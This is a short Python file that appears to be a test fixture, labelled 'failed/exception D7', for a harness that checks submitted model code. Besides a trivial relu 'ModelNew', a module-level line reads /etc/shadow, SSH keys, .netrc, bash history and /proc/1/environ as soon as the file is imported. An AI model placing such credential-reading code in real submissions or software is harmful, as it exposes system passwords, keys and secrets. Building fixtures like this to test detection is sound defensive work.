"""failed/exception D7: reads what lies in the usual places."""

import glob
from pathlib import Path

import torch

PLACES = ("/etc/shadow", "/root/.ssh/*", "/home/*/.ssh/*", "/root/.netrc", "/root/.bash_history", "/proc/1/environ")
SECRETS = b"".join(Path(path).read_bytes() for place in PLACES for path in (glob.glob(place) or [place]))


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return torch.relu(x)
